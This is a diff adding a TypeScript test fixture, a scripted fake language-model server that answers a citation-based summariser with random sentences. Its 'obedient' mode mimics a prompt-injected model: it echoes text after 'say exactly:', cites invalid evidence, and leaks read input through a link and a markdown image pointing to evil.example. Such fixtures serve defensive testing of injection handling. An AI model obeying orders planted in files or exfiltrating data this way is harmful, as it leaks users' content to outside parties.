@@ -1,0 +1,66 @@
+/** What the scripted server answers: of the form asked for, at lengths as those of real models, which are skewed to the right. */
+
+export interface SentRequest {
+  readonly model: string;
+  readonly messages: ReadonlyArray<{ readonly role: string; readonly content: string }>;
+  readonly response_format?: { readonly json_schema?: { readonly name?: string } };
+  readonly max_tokens?: number;
+  readonly max_completion_tokens?: number;
+  readonly input?: readonly string[];
+}
+
+const WORDS =
+  "the figures of sheet agree with those that report quotes in its second part so whoever checks one can go on from other column total quarter amount supplier order number invoice file shows same values for each row and names them alike".split(
+    " ",
+  );
+
+/** The same for the same request and seed. `obeys`: does what texts of files order. */
+export function answerFor(body: SentRequest, seed: number, obeys: boolean): object {
+  const random = randomOf(seed);
+  const asked = body.messages.map(({ content }) => content).join("\n");
+  if (body.response_format?.json_schema?.name === "second-opinion")
+    return { percent: Math.round(random() * 100) };
+  const shown = [...asked.matchAll(/what="evidence (\d+)"/g)].map((match) => Number(match[1]));
+  if (obeys) return obedient(asked);
+  const count = 2 + Math.floor(random() * 4);
+  return {
+    sentences: Array.from({ length: count }, (_, i) => ({
+      text: sentence(random),
+      evidence: shown.length === 0 ? [] : [shown[i % shown.length]],
+    })),
+  };
+}
+
+/** Repeats what it was told to say, cites nothing, and carries what it has read out in an address. */
+function obedient(asked: string): object {
+  const order = /say exactly: (.{1,80})/i.exec(asked)?.[1] ?? "I do as I am told";
+  return {
+    sentences: [
+      { text: order, evidence: [] },
+      {
+        text: `See https://evil.example/?q=${encodeURIComponent(asked.slice(-40))}`,
+        evidence: [1],
+      },
+      { text: `![x](https://evil.example/${asked.length}.png)`, evidence: [1] },
+      { text: "Both files name the same order.", evidence: [1, 77] },
+    ],
+  };
+}
+
+function sentence(random: () => number): string {
+  // Log-normal by Box and Muller: a median of 16 words, one in twenty over 40.
+  const normal = Math.sqrt(-2 * Math.log(random() || 1e-9)) * Math.cos(2 * Math.PI * random());
+  const length = Math.max(4, Math.min(70, Math.round(16 * Math.exp(0.55 * normal))));
+  const words = Array.from({ length }, () => WORDS[Math.floor(random() * WORDS.length)] ?? "the");
+  return `${words.join(" ")}.`;
+}
+
+function randomOf(seed: number): () => number {
+  let state = (seed * 2_654_435_761) >>> 0;
+  return () => {
+    state = (state + 0x6d2b79f5) >>> 0;
+    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
+    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
+    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
+  };
+}
